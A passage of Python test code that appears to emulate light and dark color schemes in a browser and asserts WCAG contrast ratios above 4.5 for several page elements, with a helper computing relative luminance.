        page.browser.execute_cdp_cmd("Emulation.setEmulatedMedia", {"features": features})
        page.picture(f"{scheme}-{page.js('return innerWidth')}")
        code = "const s = getComputedStyle(document.querySelector(arguments[0])); return [s.color, s.backgroundColor]"
        for selector in ("body", "#question", ".said code", "th", ".question .text", "#send"):
            ink, ground = (luminance(color) for color in page.js(code, selector))
            if page.js(code, selector)[1] != "rgba(0, 0, 0, 0)":
                assert (max(ink, ground) + 0.05) / (min(ink, ground) + 0.05) > 4.5, (scheme, selector)
    page.browser.execute_cdp_cmd("Emulation.setEmulatedMedia", {"features": []})


def luminance(color: str) -> float:
    """Of a color in CSS, as WCAG defines it."""
    shares = [int(number) / 255 for number in re.findall(r"\d+", color)[:3]]
    r, g, b = (s / 12.92 if s <= 0.03928 else ((s + 0.055) / 1.055) ** 2.4 for s in shares)
    return 0.2126 * r + 0.7152 * g + 0.0722 * b
